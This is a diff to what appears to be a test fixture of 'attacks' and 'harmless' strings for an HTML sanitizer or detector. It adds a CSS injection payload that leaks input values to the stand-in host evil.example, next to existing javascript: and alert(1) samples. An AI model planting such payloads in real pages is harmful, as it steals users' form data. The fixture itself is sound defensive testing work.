@@ -156,6 +156,7 @@ export const attacks: readonly string[] = [
   'ja\tvascript: ',
   ' data: , <x>',
   '<br size="&{alert(1)}">',
+  '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
 ]
 
 export const harmless: readonly string[] = [
@@ -280,6 +281,7 @@ export const harmless: readonly string[] = [
   '{{ user.name.first }} and {{ total | currency }}',
   '<@U12345> deployed <#C1|general>',
   '(ﾟДﾟ) nani',
+  '<style>input[type=text]{background:url(/a.png)}</style>',
 ]
 
 /** What a hostile text repeats. */
